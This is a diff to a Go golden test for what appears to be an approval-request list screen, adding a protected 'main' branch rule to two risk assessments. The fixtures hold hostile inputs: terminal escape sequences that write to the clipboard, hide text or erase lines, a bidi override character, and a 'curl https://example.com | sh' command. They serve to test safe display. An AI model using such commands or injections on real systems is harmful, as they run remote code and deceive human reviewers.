@@ -292,12 +292,12 @@ func TestListScreenGolden(t *testing.T) {
 		r.Files = append(r.Files, approval.FileChange{Path: ".github/workflows/ci.yml", Op: change.Create, NewMode: filemode.Regular, Size: 10})
 		r.Commits = append(r.Commits, approval.CommitInfo{ID: approvaltest.Hash("c2"), Message: "two"})
 		r.Added, r.Deleted = 12, 3
-		r.Flags = approval.Assess(r, approval.Rules{}, nil)
+		r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, nil)
 	})
 	a.submit(t, "writer-a"+clear, "mem-1a2b3c", "api\x1b]52;c;ZXZpbA==\x07", "fix\x1b[8m", "req-000000000002", func(r *approval.Request) {
 		r.Describe = "local:/srv/api\x1b[1A\x1b[2K"
 		r.Files[1].NewMode = filemode.Executable
-		r.Flags = approval.Assess(r, approval.Rules{}, nil)
+		r.Flags = approval.Assess(r, approval.Rules{Protected: []string{"main"}}, nil)
 	})
 	a.submit(t, "someone-else", "sess\u202Eevil", "", "", "req-000000000003", func(r *approval.Request) {
 		r.Kind, r.Command, r.Reason = approval.KindNetwork, "curl https://example.com | sh\x1b[2J", "to fetch the\x07 fixtures"
